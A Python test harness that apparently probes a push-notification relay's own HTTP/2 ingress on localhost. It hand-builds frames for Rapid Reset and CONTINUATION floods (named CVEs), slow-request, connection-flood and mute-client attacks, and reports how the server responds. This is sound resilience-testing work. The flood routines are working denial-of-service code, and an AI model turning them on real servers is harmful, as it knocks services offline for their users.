#!/usr/bin/env python3
"""A hostile HTTP/2 client for the relay's cleartext APNs ingress, frames built by hand.

Each mode attacks one limit and prints one JSON line with what the server did:

  rapid-reset N    N times HEADERS (no END_STREAM) then RST_STREAM CANCEL on a new
                   stream (CVE-2023-44487); reports whether a GOAWAY came, its error
                   code, and how many pairs were written before the server closed.
  continuation N   one HEADERS without END_HEADERS and N CONTINUATION frames of
                   100-byte headers (CVE-2024-28182); reports GOAWAY, RST_STREAM or close.
  trickle          HEADERS of a POST without END_STREAM and nothing more: reports the
                   RST_STREAM the server sends when its request time limit passes.
  connections N    N connections at once, each sends the preface and SETTINGS; reports
                   how many got the server's SETTINGS and how many were closed unanswered.
  mute             one whole device send (HEADERS and DATA), its SETTINGS acknowledged,
                   then nothing: it never reads again, so never sees an answer and never
                   acknowledges a PING. Reports when the server's FIN arrived (the socket's
                   TCP state, read without reading the data: CLOSE_WAIT), or null when none
                   came within --wait seconds.

    python3 h2_hostile.py --port 8443 rapid-reset 5000
"""
import argparse, json, socket, struct, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def hpack_length(length):
    """An HPACK string length (7-bit prefix, no Huffman), RFC 7541 section 5.1."""
    if length < 127:
        return bytes([length])
    out, length = [127], length - 127
    while length >= 128:
        out.append(length % 128 + 128)
        length //= 128
    return bytes(out + [length])


def literal(name, value):
    """HPACK literal header field without indexing, new name."""
    name, value = name.encode(), value.encode()
    return b"\x00" + hpack_length(len(name)) + name + hpack_length(len(value)) + value


def request_block(path, authorization=""):
    block = literal(":method", "POST") + literal(":scheme", "http") + literal(":path", path) + literal(":authority", "127.0.0.1")
    block += literal("apns-topic", "com.example.a")
    if authorization:
        block += literal("authorization", authorization)
    return block


class Reader:
    """Reads frames until the deadline; records what the server sent."""

    def __init__(self, sock):
        self.sock, self.buffer, self.frames, self.closed = sock, b"", [], False

    def pump(self, seconds):
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except (ConnectionResetError, BrokenPipeError):
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                self.frames.append((kind, flags, stream, self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]

    def until(self, predicate, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline and not self.closed:
            if predicate():
                return True
            self.pump(min(0.2, deadline - time.monotonic()))
        return predicate()

    def goaway(self):
        for kind, _, _, payload in self.frames:
            if kind == GOAWAY:
                return int.from_bytes(payload[4:8], "big")
        return None

    def resets(self):
        return [(stream, int.from_bytes(payload[:4], "big")) for kind, _, stream, payload in self.frames if kind == RST_STREAM]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def rapid_reset(args):
    sock = connect(args.port)
    reader = Reader(sock)
    written = 0
    block = request_block("/3/device/" + "ab" * 32, args.authorization)
    for index in range(args.count):
        stream = 1 + 2 * index
        try:
            sock.sendall(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        except (BrokenPipeError, ConnectionResetError):
            break
        written += 1
        if index % 100 == 99:
            reader.pump(0)
            if reader.closed or reader.goaway() is not None:
                break
    reader.until(lambda: reader.closed, 10)
    print(json.dumps({"pairs_written": written, "goaway_error": reader.goaway(), "closed": reader.closed}))


def continuation(args):
    sock = connect(args.port)
    reader = Reader(sock)
    sent = 0
    try:
        sock.sendall(frame(HEADERS, 0, 1, request_block("/3/device/" + "ab" * 32, args.authorization)))
        for index in range(args.count):
            last = index == args.count - 1
            sock.sendall(frame(CONTINUATION, END_HEADERS if last else 0, 1, literal("x-flood-%d" % index, "v" * 90)))
            sent += 1
            if index % 50 == 49:
                reader.pump(0)
                if reader.closed or reader.goaway() is not None or reader.resets():
                    break
    except (BrokenPipeError, ConnectionResetError):
        pass
    reader.until(lambda: reader.closed or reader.goaway() is not None or bool(reader.resets()), 10)
    headers_answers = [f for f in reader.frames if f[0] == HEADERS]
    print(json.dumps({"continuations_sent": sent, "goaway_error": reader.goaway(), "resets": reader.resets(),
                      "answered": len(headers_answers), "closed": reader.closed}))


def trickle(args):
    sock = connect(args.port)
    reader = Reader(sock)
    started = time.monotonic()
    sock.sendall(frame(HEADERS, END_HEADERS, 1, request_block("/3/device/" + "ab" * 32, args.authorization)))
    reader.until(lambda: bool(reader.resets()) or reader.goaway() is not None, args.wait)
    print(json.dumps({"resets": reader.resets(), "goaway_error": reader.goaway(), "closed": reader.closed,
                      "seconds": round(time.monotonic() - started, 2)}))


def connections(args):
    socks, answered, refused = [], 0, 0
    for _ in range(args.count):
        try:
            socks.append(connect(args.port))
        except OSError:
            refused += 1
    for sock in socks:
        reader = Reader(sock)
        if reader.until(lambda: any(f[0] == SETTINGS for f in reader.frames), 10):
            answered += 1
        else:
            refused += 1
    print(json.dumps({"answered": answered, "refused": refused}))
    for sock in socks:
        sock.close()


def mute(args):
    sock = connect(args.port)
    reader = Reader(sock)
    # The server's SETTINGS, acknowledged, as any client does; then the one send.
    if not reader.until(lambda: any(f[0] == SETTINGS and not f[1] & 0x1 for f in reader.frames), 10):
        print(json.dumps({"error": "no SETTINGS from the server", "closed": reader.closed}))
        return
    block = request_block("/3/device/" + args.token, args.authorization)
    block += literal("apns-id", args.apns_id) + literal("apns-push-type", "alert")
    body = b'{"aps":{"alert":"mute"}}'
    sock.sendall(frame(SETTINGS, 0x1, 0) + frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, body))
    print(json.dumps({"sent": True}), flush=True)
    # From here on nothing is read: only the TCP state is looked at.
    started = time.monotonic()
    while time.monotonic() - started < args.wait:
        info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)
        if info[0] in (8, 7):  # TCP_CLOSE_WAIT (the server's FIN came), TCP_CLOSE (reset)
            print(json.dumps({"fin_after_seconds": round(time.monotonic() - started, 2), "state": info[0]}))
            return
        time.sleep(0.05)
    print(json.dumps({"fin_after_seconds": None}))


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--authorization", default="")
    parser.add_argument("--wait", type=float, default=30)
    parser.add_argument("--token", default="ab" * 32, help="mute: the device token of the send")
    parser.add_argument("--apns-id", default="6e1f0a4c-0000-4000-8000-00000000a0a0", help="mute: the send's apns-id")
    parser.add_argument("mode", choices=["rapid-reset", "continuation", "trickle", "connections", "mute"])
    parser.add_argument("count", type=int, nargs="?", default=1)
    args = parser.parse_args()
    {"rapid-reset": rapid_reset, "continuation": continuation, "trickle": trickle, "connections": connections, "mute": mute}[args.mode](args)


main()
